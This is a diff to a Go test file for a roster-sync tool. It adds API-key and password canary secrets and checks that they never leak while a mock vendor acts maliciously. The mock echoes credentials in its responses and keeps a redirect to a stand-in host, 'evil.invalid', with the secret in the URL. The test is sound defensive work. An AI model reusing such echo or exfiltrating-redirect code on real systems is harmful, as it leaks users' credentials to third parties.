@@ -30,9 +30,11 @@ import (
 // The canaries are secrets that are told apart wherever they turn up. They have
 // characters that every encoding writes differently.
 const (
-	envCanary     = `env/canary+7Qz?&w="9t'Kx~P4`
-	fileCanary    = `file/canary+3Vb?&m="5r'Jd~L8`
-	commandCanary = `command/canary+1Hn?&k="2y'Sf~G6`
+	envCanary      = `env/canary+7Qz?&w="9t'Kx~P4`
+	fileCanary     = `file/canary+3Vb?&m="5r'Jd~L8`
+	commandCanary  = `command/canary+1Hn?&k="2y'Sf~G6`
+	keyCanary      = `apikey/canary+4Tc?&p="8e'Zb~N2`
+	passwordCanary = `password/Canary+6Wm?&j="3u'Hg~R7`
 )
 
 const secretsConfig = `version: 1
@@ -41,6 +43,7 @@ providers:
   byfile: {kind: vendasta, partner: BBB, baseURL: BASEURL, auth: {token: {file: token.secret}}, rate: unlimited, retries: 0}
   bycommand: {kind: vendasta, partner: CCC, baseURL: BASEURL, auth: {token: {command: [cat, command.secret]}}, rate: unlimited, retries: 0}
   bykey: {kind: vendasta, partner: DDD, baseURL: BASEURL, tokenURL: TOKENURL, auth: {serviceAccount: {file: key.secret}}, rate: unlimited, retries: 0}
+  byapikey: {kind: partoo, baseURL: PARTOOBASEURL, auth: {apiKey: {env: ROLLCALL_KEY_CANARY}}, rate: unlimited, retries: 0}
 `
 
 const secretsRoster = `version: 1
@@ -51,10 +54,15 @@ teams:
       byfile: *grants
       bycommand: *grants
       bykey: *grants
+      byapikey: {role: PUBLISHER}
 people:
   - {email: ana@example.com, status: departed}
   - {email: bill@example.com, givenName: Bill, teams: [all]}
-  - {email: cara@example.com, givenName: Cara, teams: [all]}
+  - email: cara@example.com
+    givenName: Cara
+    familyName: Diaz
+    teams: [all]
+    access: {byapikey: {password: {file: password.secret}}}
 `
 
 // A treasury is a directory with every kind of secret, and a vendor that does
@@ -72,7 +80,7 @@ func newTreasury(t *testing.T) *treasury {
 	t.Helper()
 	y := &treasury{
 		dir: t.TempDir(), used: make(map[string]bool),
-		canaries: map[string]string{"env": envCanary, "file": fileCanary, "command": commandCanary},
+		canaries: map[string]string{"env": envCanary, "file": fileCanary, "command": commandCanary, "key": keyCanary, "password": passwordCanary},
 		world:    simulator.New(simulator.Options{}),
 	}
 	key, err := rsa.GenerateKey(rand.Reader, 2048)
@@ -99,10 +107,18 @@ func newTreasury(t *testing.T) *treasury {
 			}
 		}
 	}
+	for _, name := range []string{"ana", "bill"} {
+		if _, err := y.world.Add("partoo", map[string]any{"email": name + "@example.com", "first_name": "F", "last_name": "L", "role": "ORG_MANAGER"}); err != nil {
+			t.Fatal(err)
+		}
+	}
 	server := httptest.NewServer(y.handler())
 	t.Cleanup(server.Close)
 	endpoint := y.world.Endpoint(server.URL, "vendasta")
-	write(t, y.dir, "rollcall.yaml", strings.NewReplacer("BASEURL", endpoint.BaseURL, "TOKENURL", endpoint.TokenURL).Replace(secretsConfig))
+	write(t, y.dir, "rollcall.yaml", strings.NewReplacer(
+		"PARTOOBASEURL", y.world.Endpoint(server.URL, "partoo").BaseURL, "BASEURL", endpoint.BaseURL, "TOKENURL", endpoint.TokenURL,
+	).Replace(secretsConfig))
+	write(t, y.dir, "password.secret", passwordCanary+"\n")
 	write(t, y.dir, "roster.yaml", secretsRoster)
 	write(t, y.dir, "token.secret", fileCanary+"\n")
 	write(t, y.dir, "command.secret", commandCanary+"\r\n")
@@ -122,6 +138,14 @@ func (y *treasury) handler() http.Handler {
 		r.Body = io.NopCloser(bytes.NewReader(body))
 		secret := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
 		atToken := strings.HasSuffix(r.URL.Path, "/token")
+		key := r.Header.Get("X-Apikey")
+		if key != "" {
+			y.note("credential", key)
+			var create struct{ Password string }
+			_ = json.Unmarshal(body, &create) // most requests have no body
+			y.note("password", create.Password)
+			secret = cmp.Or(create.Password, key)
+		}
 		if atToken {
 			form, _ := url.ParseQuery(string(body))
 			secret = form.Get("assertion")
@@ -148,6 +172,12 @@ func (y *treasury) handler() http.Handler {
 			w.WriteHeader(http.StatusForbidden)
 			return
 		case "codes":
+			if key != "" {
+				w.Header().Set("Content-Type", "application/json")
+				w.WriteHeader(http.StatusBadRequest)
+				_ = json.NewEncoder(w).Encode(map[string]any{"errors": map[string]any{secret: secret, "json": map[string]any{secret: []string{secret}, "email": secret}}})
+				return
+			}
 			w.Header().Set("Content-Type", "application/vnd.api+json")
 			w.WriteHeader(http.StatusUnprocessableEntity)
 			_ = json.NewEncoder(w).Encode(map[string]any{"errors": []any{map[string]any{
@@ -158,6 +188,13 @@ func (y *treasury) handler() http.Handler {
 			http.Redirect(w, r, "https://evil.invalid/"+url.PathEscape(secret)+"?t="+url.QueryEscape(secret), http.StatusTemporaryRedirect)
 			return
 		case "users":
+			if key != "" && r.Method == http.MethodGet {
+				w.Header().Set("Content-Type", "application/json")
+				_ = json.NewEncoder(w).Encode(map[string]any{"page": 1, "max_page": 1, "count": 1, "users": []any{map[string]any{
+					"id": secret, "email": r.URL.Query().Get("email"), "first_name": secret, "role": base64.StdEncoding.EncodeToString([]byte("x" + secret)), "disabled": false,
+				}}})
+				return
+			}
 			if r.Method == http.MethodGet && !atToken {
 				w.Header().Set("Content-Type", "application/vnd.api+json")
 				_ = json.NewEncoder(w).Encode(map[string]any{"data": []any{map[string]any{
@@ -215,7 +252,7 @@ func (y *treasury) note(kind, secret string) {
 func (y *treasury) run(t *testing.T, args ...string) map[string]string {
 	t.Helper()
 	command := exec.Command("rollcall", append([]string{"-C", y.dir}, args...)...)
-	command.Env = append(os.Environ(), "ROLLCALL_CANARY="+envCanary)
+	command.Env = append(os.Environ(), "ROLLCALL_CANARY="+envCanary, "ROLLCALL_KEY_CANARY="+keyCanary)
 	var stdout, stderr bytes.Buffer
 	command.Stdout, command.Stderr = &stdout, &stderr
 	var exit *exec.ExitError
@@ -312,9 +349,10 @@ func TestSecretsStaySecret(t *testing.T) {
 		y.mood(cmp.Or(test.hostile, "kind"))
 		commands := [][]string{
 			{"plan"},
-			{"plan", "--format", "json", "-v"},
+			{"plan", "--format", "json", "-v", "--out", "saved.json"},
 			{"explain", "ana@example.com"},
 			{"apply", "--yes", "-v", "--log-format", "json", "--result", "result.json"},
+			{"apply", "--yes", "-v", "--result", "result.json", "saved.json"},
 		}
 		if test.name == "none" {
 			commands = append(commands, []string{"validate"}, []string{"apply", "--yes", "-v", "--simulate"})
@@ -328,15 +366,15 @@ func TestSecretsStaySecret(t *testing.T) {
 		}
 	}
 	for name, canary := range y.canaries {
-		if (name == "env" || name == "file" || name == "command") && !y.used[canary] {
+		if slices.Contains([]string{"env", "file", "command", "key", "password"}, name) && !y.used[canary] {
 			t.Errorf("the canary in %s never came to the vendor", name)
 		}
 	}
 	if y.world.Counts().Faults["echo-authorization"] == 0 {
 		t.Error("the vendor never echoed credentials")
 	}
-	if got := y.world.Counts().Created; got != 4 {
-		t.Errorf("%d users were created in the end, want 4", got)
+	if got := y.world.Counts().Created; got != 5 {
+		t.Errorf("%d users were created in the end, want 5", got)
 	}
 }
 
